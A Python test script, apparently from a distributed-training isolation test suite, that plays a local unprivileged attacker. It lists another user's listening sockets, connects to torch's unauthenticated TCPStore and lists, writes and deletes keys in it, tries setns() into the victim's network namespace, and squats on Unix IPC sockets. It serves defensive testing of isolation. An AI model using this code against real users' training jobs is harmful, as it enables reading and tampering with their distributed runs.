"""Another user of this machine, attacking a victim's distributed run: plain Python (stdlib
only, no torch, no ddp_lab), run as a throwaway user by tests/launch/test_isolation_attacks.py,
or by hand::

    /usr/bin/python3 tests/attacker.py --uid 0 [--only-inodes 123,456] [--ports 4242]
                                       [--ns-pids 789,790] [--no-set]

What any local user can do without privilege:

1. list every TCP socket in LISTEN state in this network namespace, with its owner's uid,
   from the world-readable /proc/net/tcp and /proc/net/tcp6 (``--uid``: the victim's);
2. connect to each of them on 127.0.0.1 and ::1 and on every non-loopback address of the
   machine (torchrun's store listens on all interfaces), and to ``--ports`` (port numbers
   the attacker knows or guesses, whether listed or not);
3. on each connection that succeeds, speak torch's TCPStore protocol: VALIDATE and PING (a
   store echoes), LIST_KEYS, then SET a key of its own, GET it back and DELETE it; what
   succeeds proves the port is an unauthenticated store the attacker can read and change;
4. ``--ns-pids``: open /proc/PID/ns/net of the victim's processes, to setns() into their
   network namespace (another user's: EACCES is expected).

It prints one JSON object on stdout (see ``main``). Wire format of the store (torch 2.13,
recorded from the bytes torch's own client sends through a relaying proxy): a client
starts with 0x00 VALIDATE + u32 magic 0x3C85F7CE; keys and values are u64 length + bytes;
torch's client prefixes every key with "/". No command has any authentication.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import fcntl
import json
import os
import socket
import struct
import sys
import threading
import time

MAGIC = 0x3C85F7CE
VALIDATE, SET, GET, DELETE_KEY, PING, LIST_KEYS = 0x00, 0x01, 0x03, 0x08, 0x0D, 0x11
LISTEN = "0A"  # the st column of /proc/net/tcp (include/net/tcp_states.h: TCP_LISTEN = 10)
SIOCGIFADDR = 0x8915  # <linux/sockios.h>
CLONE_NEWNET = 0x40000000
PROBE_KEY = "/ddp-lab-attacker-probe"


# -- what /proc/net/tcp tells everyone ----------------------------------------------------
def _address(hex_address: str) -> str:
    raw = bytes.fromhex(hex_address)
    if len(raw) == 4:
        return socket.inet_ntop(socket.AF_INET, raw[::-1])
    # /proc/net/tcp6 prints the address as four 32-bit words in host (little endian) order
    words = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
    return socket.inet_ntop(socket.AF_INET6, words)


def tcp_table(net: str = "/proc/net") -> list[dict]:
    """Every TCP socket of a network namespace (``net``: /proc/net, this process's, or
    /proc/PID/net, PID's): proto, address, port, state (hex), uid, inode."""
    rows = []
    for proto in ("tcp", "tcp6"):
        try:
            with open(os.path.join(net, proto)) as table:
                next(table)
                for line in table:
                    fields = line.split()
                    address, port = fields[1].rsplit(":", 1)
                    rows.append({"proto": proto, "address": _address(address),
                                 "port": int(port, 16), "state": fields[3],
                                 "uid": int(fields[7]), "inode": int(fields[9])})
        except FileNotFoundError:  # no IPv6 in this kernel
            continue
    return rows


def listening(uid: int | None = None) -> list[dict]:
    """The listening sockets of this machine's namespace (of ``uid`` only, if given)."""
    return [row for row in tcp_table() if row["state"] == LISTEN
            and (uid is None or row["uid"] == uid)]


# -- where to connect ---------------------------------------------------------------------
def machine_addresses() -> list[str]:
    """This machine's non-loopback addresses: IPv4 from each interface (SIOCGIFADDR), IPv6
    from /proc/net/if_inet6 (link-local ones with their interface as scope)."""
    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for _, name in socket.if_nameindex():
            try:
                reply = fcntl.ioctl(sock, SIOCGIFADDR, struct.pack("256s", name.encode()[:15]))
            except OSError:  # no IPv4 address on this interface
                continue
            address = socket.inet_ntoa(reply[20:24])
            if not address.startswith("127."):
                found.append(address)
    try:
        with open("/proc/net/if_inet6") as table:
            for line in table:
                hex_address, _, _, scope, _, name = line.split()
                address = socket.inet_ntop(socket.AF_INET6, bytes.fromhex(hex_address))
                if address == "::1":
                    continue
                found.append(f"{address}%{name}" if int(scope, 16) == 0x20 else address)
    except FileNotFoundError:
        pass
    return list(dict.fromkeys(found))


# -- the store protocol -------------------------------------------------------------------
def _vec(data: bytes | str) -> bytes:
    data = data.encode() if isinstance(data, str) else data
    return struct.pack("<Q", len(data)) + data


class Store:
    """A TCPStore client: connecting validates (and pings) or raises OSError."""

    def __init__(self, sock: socket.socket):
        self.sock = sock
        sock.sendall(bytes([VALIDATE]) + struct.pack("<I", MAGIC))
        sock.sendall(bytes([PING]) + struct.pack("<I", 0x1234))  # a store echoes the u32
        if self._read(4) != struct.pack("<I", 0x1234):
            raise OSError("no TCPStore answer to PING")

    def _read(self, n: int) -> bytes:
        out = b""
        while len(out) < n:
            data = self.sock.recv(n - len(out))
            if not data:
                raise OSError("connection closed")
            out += data
        return out

    def _read_vec(self) -> bytes:
        return self._read(struct.unpack("<Q", self._read(8))[0])

    def list_keys(self) -> list[str]:
        self.sock.sendall(bytes([LIST_KEYS]))
        count = struct.unpack("<Q", self._read(8))[0]
        return [self._read_vec().decode(errors="replace") for _ in range(count)]

    def set(self, key: str, value: bytes) -> None:
        self.sock.sendall(bytes([SET]) + _vec(key) + _vec(value))  # no reply

    def get(self, key: str) -> bytes:
        self.sock.sendall(bytes([GET]) + _vec(key))
        return self._read_vec()

    def delete(self, key: str) -> int:
        self.sock.sendall(bytes([DELETE_KEY]) + _vec(key))
        return struct.unpack("<q", self._read(8))[0]


def _error(exc: BaseException) -> str:
    name = errno.errorcode.get(getattr(exc, "errno", None) or -1)
    return name or f"{type(exc).__name__}: {exc}"


def probe(host: str, port: int, timeout: float, write: bool, key: str = PROBE_KEY) -> dict:
    """Connect to host:port and try the store's commands (SET, GET and DELETE of ``key``
    if ``write``); what worked and what did not."""
    result = {"via": host, "port": port, "connected": False, "error": None, "store": None}
    try:
        sock = socket.create_connection((host, port), timeout=timeout)
    except OSError as exc:
        result["error"] = _error(exc)
        return result
    result["connected"] = True
    with sock:
        store = {"validate": False, "list_keys": False, "keys": [], "key_count": 0,
                 "set": False, "error": None}
        try:
            client = Store(sock)
            store["validate"] = True
            keys = client.list_keys()
            store.update(list_keys=True, keys=keys[:50], key_count=len(keys))
            if write:
                value = f"written by uid {os.getuid()}".encode()
                client.set(key, value)
                store["set"] = client.get(key) == value
                client.delete(key)
        except OSError as exc:
            store["error"] = _error(exc)
        result["store"] = store if store["validate"] else None
        if not store["validate"]:
            result["error"] = f"not a store: {store['error']}"
    return result


# -- namespaces ---------------------------------------------------------------------------
def try_setns(pid: int) -> dict:
    """Open /proc/PID/ns/net and setns() into it: another user's should give EACCES."""
    outcome = {"pid": pid, "open": None, "setns": None}
    try:
        fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    except OSError as exc:
        outcome["open"] = _error(exc)
        return outcome
    outcome["open"] = "ok"
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        done = libc.setns(fd, CLONE_NEWNET)
        outcome["setns"] = "ok" if done == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    finally:
        os.close(fd)
    return outcome


def try_squat(folder: str) -> dict:
    """What a squatter did to a kernel's ipc sockets, in the kernel's folder: list it,
    bind a socket name a kernel would use next, connect to one it uses."""
    outcome = {}
    try:
        outcome["list"] = sorted(os.listdir(folder))
    except OSError as exc:
        outcome["list"] = _error(exc)
    for step, name in (("bind", "k-ipc-9"), ("connect", "k-ipc-1")):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            try:
                getattr(sock, step)(os.path.join(folder, name))
                outcome[step] = "ok"
            except OSError as exc:
                outcome[step] = _error(exc)
    return outcome


# -- the attack ---------------------------------------------------------------------------
def attack(uid: int, only_inodes: set[int] | None, ports: list[int], timeout: float,
           write: bool) -> dict:
    """Steps 1 to 3 of the module's docstring, every connection attempt at once (threads):
    a port that is not a store keeps its connection silent until ``timeout``. Of the
    listening sockets, only those with ``only_inodes`` are attacked, if given."""
    seen = listening(uid)
    targets = [row for row in seen if only_inodes is None or row["inode"] in only_inodes]
    vias = ["127.0.0.1", "::1", *machine_addresses()]
    jobs = [(via, row["port"], row["inode"]) for row in targets for via in vias]
    listed = {row["port"] for row in targets}
    jobs += [(via, port, None) for port in ports if port not in listed for via in vias]
    probes: list[dict] = [{} for _ in jobs]

    def one(i: int, via: str, port: int, inode: int | None) -> None:
        key = f"{PROBE_KEY}-{os.getpid()}-{i}"  # the probes of one store run at once
        probes[i] = {**probe(via, port, timeout, write, key), "inode": inode}

    threads = [threading.Thread(target=one, args=(i, *job), daemon=True)
               for i, job in enumerate(jobs)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout * 4 + 5)
    return {"listening": seen, "attacked": [row["inode"] for row in targets],
            "addresses": vias, "probes": probes,
            "connections": [_endpoint(p["via"], p["port"]) for p in probes if p.get("connected")],
            "stores": [{"via": p["via"], "port": p["port"], "inode": p["inode"], **p["store"]}
                       for p in probes if p.get("store")]}


def _endpoint(host: str, port: int) -> str:
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


def _numbers(text: str) -> list[int]:
    return [int(n) for n in text.split(",") if n.strip()]


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--uid", type=int, required=True, help="the victim's uid")
    parser.add_argument("--only-inodes", default=None, help="attack only these of the "
                        "listening sockets (comma-separated inodes; default: all of --uid's), "
                        "to leave the machine's other services alone")
    parser.add_argument("--ports", default="", help="port numbers to try even if unlisted")
    parser.add_argument("--ns-pids", default="", help="pids whose network namespace to enter")
    parser.add_argument("--timeout", type=float, default=1.0, help="per connection, seconds")
    parser.add_argument("--no-set", action="store_true", help="read the store, never write")
    parser.add_argument("--squat", default=None, help="a kernel's socket folder to squat in")
    args = parser.parse_args(argv)
    start = time.monotonic()
    if args.squat:
        json.dump({"squat": try_squat(args.squat)}, sys.stdout)
        print()
        return 0
    report = {"attacker_uid": os.getuid(), "victim_uid": args.uid,
              **attack(args.uid, None if args.only_inodes is None
                       else set(_numbers(args.only_inodes)), _numbers(args.ports),
                       args.timeout, not args.no_set)}
    # last: a setns that works moves this process into the victim's network
    report["namespaces"] = [try_setns(pid) for pid in _numbers(args.ns_pids)]
    report["seconds"] = round(time.monotonic() - start, 2)
    json.dump(report, sys.stdout, indent=1)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
